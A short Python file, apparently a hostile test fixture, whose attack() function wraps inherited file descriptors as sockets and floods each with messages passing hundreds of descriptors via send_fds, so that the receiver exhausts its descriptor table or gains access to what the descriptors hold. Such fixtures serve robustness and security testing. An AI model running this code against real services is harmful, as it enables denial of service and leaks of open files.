"""Sends descriptors along with its messages, hundreds of them: whoever takes them runs out, or reads what they hold."""

import os
import socket


def attack():
    print("attack: sending", flush=True)
    null = os.open("/dev/zero", os.O_RDONLY)
    for number in range(3, 64):
        try:
            sock = socket.socket(fileno=os.dup(number))
            sock.setblocking(False)
            for _ in range(100):
                socket.send_fds(sock, [b"\0\0\0\2{}"], [null, 1, 2, number] * 10)
        except OSError:
            pass
